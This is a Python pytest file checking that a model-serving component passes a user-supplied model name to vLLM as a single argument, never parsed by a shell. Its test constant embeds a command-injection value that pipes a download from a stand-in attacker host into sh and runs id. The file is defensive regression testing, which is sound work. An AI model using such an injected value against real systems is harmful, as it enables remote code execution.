"""The model server's command (components/serving/model_server.py, issue 48): the model name reaches vLLM as one argv
element, never as text a shell parses."""

from __future__ import annotations

import pytest

from gpufleet.base.spec.features.serving import ModelServerSpec
from gpufleet.components.serving.model_server import pod_template

HOSTILE = "org/model; curl evil.example | sh #$(id)`id`"


def _spec(nodes: int) -> ModelServerSpec:
    # model_construct skips the spec's pattern: the component must be safe on its own (it is usable without a stack).
    return ModelServerSpec.model_construct(**{**ModelServerSpec(name="m", pool="p", model="org/model").__dict__,
                                              "model": HOSTILE, "nodes_per_replica": nodes})


@pytest.mark.parametrize("nodes", [1, 4])
def test_the_model_name_is_one_argument_and_no_shell_reads_it(nodes):
    command = pod_template(_spec(nodes), "leader", ())["spec"]["containers"][0]["command"]
    assert command.count(HOSTILE) == 1
    if command[0] == "sh":
        # The only shell text is a fixed script; the model and the flags are its positional parameters.
        assert command[:4] == ["sh", "-c", 'ray start --head --port=6379 && exec vllm serve "$@"', "vllm-leader"]
        assert command[4] == HOSTILE
        assert command[4:] == [HOSTILE, "--port", "8000", "--tensor-parallel-size", "1", "--pipeline-parallel-size",
                               "4", "--distributed-executor-backend", "ray"]
    else:
        assert command == ["vllm", "serve", HOSTILE, "--port", "8000", "--tensor-parallel-size", "1"]


def test_workers_run_without_a_shell():
    command = pod_template(_spec(4), "worker", ())["spec"]["containers"][0]["command"]
    assert command == ["ray", "start", "--address=$(LWS_LEADER_ADDRESS):6379", "--block"]
